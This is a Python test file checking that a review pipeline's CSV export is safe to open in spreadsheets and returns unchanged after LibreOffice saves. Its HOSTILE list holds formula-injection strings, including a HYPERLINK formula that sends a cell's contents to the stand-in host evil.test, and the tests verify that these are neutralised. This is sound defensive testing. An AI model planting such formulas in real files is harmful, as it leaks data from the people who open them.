"""The queue goes out as one flat file, harmless to open, that comes back unchanged."""

import csv
import json
import os
import shutil
import stat
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from batch_pipeline.errors import ConfigurationError
from batch_pipeline.simulator import Simulator
from batch_pipeline_tests.night import Night, write_csv
from batch_pipeline_tests.review.desk import Desk, as_a_spreadsheet_saves

WAITING = ["r00001", "r00002", "r00004", "r00005", "r00007"]
# Texts that a spreadsheet would change or run, or that break lines and quotes.
HOSTILE = [
    '=HYPERLINK("http://evil.test/?"&A1)',
    "'=1+1",
    "007",
    "2026-11-20",
    "TRUE",
    "1e5",
    'two\nlines; and, "quotes"',
    "a\r\nb",
    "\x01 \x7f bell",
    "👩‍👩‍👧 ﷽",
    " blanks ",
    '"quoted"',
    "@SUM(1)",
    "null",
]


def test_one_row_per_item_holds_all_that_a_reviewer_needs(desk: Desk) -> None:
    done = desk.export()
    assert (done.rows, done.queue, done.decided) == (5, 5, 0)
    rows = desk.rows()
    assert list(rows) == WAITING
    assert list(rows["r00004"]) == [
        "review_id",
        "key",
        "reason",
        "tier",
        "input_text",
        "input_label",
        "answer",
        "model_label",
        "model_urgency",
        "model_why",
        "decision",
        "fixed_label",
        "fixed_urgency",
        "fixed_why",
        "note",
        "reviewer",
    ]
    assert rows["r00004"]["reason"] == "unknown_label:label"
    assert rows["r00004"]["input_text"] == "question number 4 of the night"
    assert rows["r00004"]["model_urgency"].isdigit()
    assert rows["r00005"]["reason"] == "check:text:not_the_fifth"
    assert rows["r00001"]["answer"].startswith("Here is my answer, in words")
    assert [rows["r00001"][f"model_{name}"] for name in ("label", "urgency", "why")] == ["", "", ""]


def test_the_file_is_marked_as_utf_8_and_is_its_owners_alone(desk: Desk) -> None:
    desk.export()
    assert desk.path.read_bytes().startswith(b"\xef\xbb\xbfreview_id,")
    assert stat.S_IMODE(desk.path.stat().st_mode) == 0o600


def test_a_file_that_exists_may_hold_work_and_is_left_alone(desk: Desk) -> None:
    desk.export()
    desk.path.write_text("my work")
    from batch_pipeline.review.export import export_queue

    with pytest.raises(ConfigurationError, match="may hold decisions that nobody has imported"):
        export_queue(desk.context, desk.path, everything=False, replace=False, by="kim")
    assert desk.path.read_text() == "my work"


def test_what_is_decided_goes_out_only_on_demand_with_its_decision(
    desk: Desk, fixing: Callable[..., dict[str, str]]
) -> None:
    desk.decide(
        r00001=fixing(label="bug", urgency="2", why="007") | {"note": "=see", "reviewer": "ann"},
        r00002={"decision": "drop"},
    )
    desk.take_in()
    assert (desk.export().rows, list(desk.rows())) == (3, WAITING[2:])
    assert desk.export(everything=True).decided == 2
    fixed = desk.rows()["r00001"]
    assert [fixed[f"fixed_{name}"] for name in ("label", "urgency", "why")] == ["bug", "2", '"007"']
    assert (fixed["decision"], fixed["note"], fixed["reviewer"]) == ("fix", "'=see", "ann")
    assert desk.rows()["r00002"]["decision"] == "drop"


def test_a_load_that_is_not_finished_has_no_queue_yet(
    simulate: Callable[..., Simulator], night: Callable[..., Night], tmp_path: Path
) -> None:
    simulate(turnaround_seconds=60)
    n = night()
    n.submit()
    with pytest.raises(ConfigurationError, match="not finished"):
        Desk(n.context, tmp_path / "review.csv").export()
    assert not (tmp_path / "review.csv").exists()


def hostile_desk(
    simulate: Callable[..., Simulator], night: Callable[..., Night], folder: Path
) -> Desk:
    """A row in review for each hostile text: in its key, in its source, in its answer."""
    source = [
        {"id": f"{text} {n}", "text": f"question number {n} of the night", "own": text}
        for n, text in enumerate(HOSTILE)
    ]
    answers = [
        {"text": row["text"], "label": text} for row, text in zip(source, HOSTILE, strict=True)
    ]
    key = write_csv(folder / "hostile.csv", answers)
    simulate(answers={"file": str(key), "lookup": {"column": "text"}})
    n = night(
        source=source,
        golden=0,
        # No answer is as short as that.
        output={
            "label": {"type": ["string", "null"]},
            "never": {"type": "string", "maxLength": 1},
        },
    )
    n.settle()
    return Desk(n.context, folder / "review.csv")


def decide_all_by_hand(desk: Desk) -> None:
    """Fixes every row to the hostile text of its own; a cell for people, so what they mean goes in as JSON."""
    desk.export()
    rows = list(desk.rows().values())
    assert len(rows) == len(HOSTILE)
    for row, text in zip(rows, HOSTILE, strict=True):
        row.update(decision="fix", fixed_label=json.dumps(text), fixed_never="x")
    desk.write(rows)
    assert desk.take_in().changed == len(HOSTILE)
    assert [fields["label"] for _, fields in desk.decided().values()] == [
        text for _, text in sorted((f"{text} {n}", text) for n, text in enumerate(HOSTILE))
    ]


def no_cell_is_a_formula(path: Path) -> None:
    with path.open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    for cell in cells:
        if cell[:1] in tuple("=+-@\t\r"):
            float(cell)


def libre_office(path: Path, folder: Path) -> None:
    """Opens the file as UTF-8 with numbers recognised, and saves it."""
    encoding = "44,34,76,1,,0,false,true"
    done = subprocess.run(
        [
            str(shutil.which("soffice")),
            f"-env:UserInstallation=file://{folder / 'profile'}",
            "--headless",
            f"--infilter=CSV:{encoding}",
            "--convert-to",
            f"csv:Text - txt - csv (StarCalc):{encoding}",
            "--outdir",
            str(folder / "saved"),
            str(path),
        ],
        capture_output=True,
        check=True,
        timeout=120,
        env={**os.environ, "HOME": str(folder)},
    )
    saved = folder / "saved" / path.name
    assert saved.is_file(), done.stderr
    saved.replace(path)


@pytest.mark.skipif(
    shutil.which("soffice") is None,
    reason="LIBREOFFICE IS MISSING: the round trip is only tested by a re-writer; apt-get install libreoffice-calc",
)
def test_libre_office_changes_nothing(
    simulate: Callable[..., Simulator], night: Callable[..., Night], tmp_path: Path
) -> None:
    desk = hostile_desk(simulate, night, tmp_path)
    desk.export()
    libre_office(desk.path, tmp_path)
    intake = desk.take_in()
    assert (intake.rejected, intake.decided) == ([], 0)

    decide_all_by_hand(desk)
    before = desk.decided()
    desk.export(everything=True)
    written = desk.path.read_bytes()
    libre_office(desk.path, tmp_path)
    assert desk.path.read_bytes() != written
    intake = desk.take_in()
    assert (intake.rejected, intake.fixed, intake.changed) == ([], len(HOSTILE), 0)
    assert desk.decided() == before


def test_no_spreadsheet_changes_or_runs_anything(
    simulate: Callable[..., Simulator], night: Callable[..., Night], tmp_path: Path
) -> None:
    desk = hostile_desk(simulate, night, tmp_path)
    decide_all_by_hand(desk)
    before = desk.decided()
    desk.export(everything=True)
    no_cell_is_a_formula(desk.path)
    for delimiter in ",;\t":
        desk.export(everything=True)
        as_a_spreadsheet_saves(desk.path, delimiter)
        intake = desk.take_in()
        assert (intake.rejected, intake.fixed, intake.changed) == ([], len(HOSTILE), 0)
        assert desk.decided() == before
